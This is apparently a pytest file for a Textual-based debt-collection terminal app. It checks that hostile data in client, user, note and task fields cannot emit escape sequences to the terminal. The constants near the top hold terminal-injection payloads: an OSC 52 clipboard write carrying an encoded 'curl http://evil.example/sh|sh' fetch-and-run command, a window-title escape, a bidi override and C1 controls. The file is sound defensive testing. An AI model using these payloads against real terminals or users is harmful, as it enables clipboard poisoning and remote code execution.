"""No escape sequence of data reaches the terminal (issue 16): every screen with hostile data, raw output scanned.

Every client's name, contact person and street, every user's full name (the header's sub-title), notes, contact
summaries, task titles, bank entries in the queue and a proposal's text hold an OSC 52 clipboard write, an OSC 0
window title, a right-to-left override, C1 controls (CSI and OSC as single bytes) and Rich markup. The app runs
with the headless driver made to pass on what a real terminal would receive; every screen is opened, and the
bytes are scanned: the only escape sequences are Textual's own (CSI, and OSC 22 for the pointer shape), no C1
control, no BEL, no bidi control, and the hostile text is on screen as its visible picture.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlalchemy import text
from textual.drivers.headless_driver import HeadlessDriver
from textual.worker import WorkerCancelled

from incasso_tui.safetext import BIDI, C1
from tests.ui.test_approvals import _submit

OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3NofHNo\x07"  # "curl http://evil.example/sh|sh" to the clipboard
OSC_TITLE = "\x1b]0;pwned\x1b\\"
RLO = "\u202eRTL exe.fdp"
C1_SEQ = "\x9b2J\x9d0;c1\x9c"
MARKUP = "[bold red]X[/][link=http://evil.example]k[/]"
EVIL = f"{MARKUP}{RLO}{OSC52}{OSC_TITLE}{C1_SEQ}"

# what Textual itself writes: CSI sequences (colours, cursor) and OSC 22 (the pointer shape)
_OWN = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\]22;[a-z-]*\x07")


def leaks(raw: str) -> list[str]:
    """The characters of ``raw`` that would be instructions to the terminal, once Textual's own are removed."""
    rest = _OWN.sub("", raw)
    return sorted(
        {
            repr(ch)
            for ch in rest
            if (ord(ch) < 0x20 and ch != "\n") or ord(ch) == 0x7F or ord(ch) in C1 or ord(ch) in BIDI
        }
    )


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """The headless driver receives the screen updates a real terminal would (Textual skips them when headless)."""
    written: list[str] = []
    monkeypatch.setattr(HeadlessDriver, "is_headless", property(lambda self: False))
    monkeypatch.setattr(HeadlessDriver, "write", lambda self, data: written.append(data))
    yield written


def make_hostile(db: Any) -> None:
    with db.transaction() as s:
        s.execute(text("UPDATE clients SET name = :e || name, contact_person = :e, street = :e || street"), {"e": EVIL})
        s.execute(text("UPDATE users SET full_name = :e || full_name"), {"e": EVIL})
        s.execute(text("UPDATE notes SET text = :e"), {"e": EVIL})
        s.execute(text("UPDATE contacts SET summary = :e"), {"e": EVIL})
        s.execute(text("UPDATE tasks SET title = :e"), {"e": EVIL})
        s.execute(text("UPDATE bank_entries SET counterparty_name = :e, remittance = :e"), {"e": EVIL})


async def _settle(pilot: Any) -> None:
    for _ in range(3):
        try:
            await pilot.app.workers.wait_for_complete()
        except WorkerCancelled:  # a newer call of an exclusive group replaced it (keys faster than the database)
            pass
        await pilot.pause()


def _first_case(app: Any) -> int:
    with app.ctx.db.reader() as s:
        return int(
            s.execute(
                text("SELECT id FROM cases WHERE status = 'active' AND pos_arrears > 0 ORDER BY id LIMIT 1")
            ).scalar_one()
        )


async def _visit(pilot: Any, *keys: str) -> None:
    for key in keys:
        await pilot.press(key)
        await _settle(pilot)


async def _detail_and_forms(pilot: Any, case_id: int) -> None:
    from incasso_tui.ui.screens.detail import ClientDetailScreen

    app = pilot.app
    await app.push_screen(ClientDetailScreen(case_id))
    await _settle(pilot)
    for tab in "123456789":
        await _visit(pilot, tab)
    # every form of the detail, then cancel it (with those of the budget, consultations, the team meeting,
    # complaints, external collection, vulnerability and changing an arrangement: issues 13-20)
    for form in ("c", "n", "a", "u", "l", "i", "p", "h", "w", "o", "b", "k", "m", "d", "e", "v", "g"):
        detail = app.screen
        await _visit(pilot, form)
        if app.screen is not detail:
            await _visit(pilot, "escape")
            if app.screen is not detail:
                app.pop_screen()
                await _settle(pilot)
    app.notify(f"saved for {EVIL}")  # a toast with a name in it
    await _settle(pilot)
    await _visit(pilot, "question_mark", "question_mark", "escape")


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_every_desk_screen_keeps_hostile_data_text(
    app_for: Callable[..., Any], sqlite_db: Any, terminal: list[str], size: tuple[int, int]
) -> None:
    make_hostile(sqlite_db)
    app = app_for("bakker")  # a supervisor: the desk's screens and the approvals queue
    _submit(app, "demo")  # a proposal in the queue, for a client whose name is hostile
    async with app.run_test(size=size) as pilot:
        await _settle(pilot)
        case_id = _first_case(app)
        await _detail_and_forms(pilot, case_id)
        await _visit(pilot, "escape")
        # approvals, special management, queue, dashboard, selections, import; the task inbox, the team meeting, the
        # search screen and the post (issues 12-14)
        for key in ("v", "g", "u", "k", "l", "i", "a", "d", "f", "p"):
            worklist = app.screen
            await _visit(pilot, key)
            if key == "v":
                await _visit(pilot, "enter")  # the dossier from the queue
                await _visit(pilot, "escape")
            while app.screen is not worklist and len(app.screen_stack) > 1:
                app.pop_screen()
                await _settle(pilot)
        await _visit(pilot, "slash", *"Evil", "escape", "ctrl+p", "escape")
    raw = "".join(terminal)
    assert raw, "nothing was written to the terminal: the capture does not work"
    assert leaks(raw) == []
    shown = _OWN.sub("", raw)  # the text on screen, without Textual's colours and cursor moves
    assert "␛]52;c;" in shown and "<U+202E>RTL" in shown and "␛]0;pwned␛\\" in shown  # data, as text
    assert "[bold red]X[/]" in shown  # markup shown literally


async def test_special_management_screens(app_for: Callable[..., Any], sqlite_db: Any, terminal: list[str]) -> None:
    make_hostile(sqlite_db)
    app = app_for("visser")
    async with app.run_test(size=(100, 30)) as pilot:
        await _settle(pilot)
        await _visit(pilot, "escape", "k", "escape")
    assert leaks("".join(terminal)) == []


def test_the_scanner_finds_what_a_raw_name_would_write() -> None:
    """Without the safe-text function the same output holds the sequences: the scan can fail."""
    assert leaks(f"\x1b[1mName {EVIL}\x1b[0m") != []
    assert leaks("\x1b[1mName\x1b]22;default\x07") == []
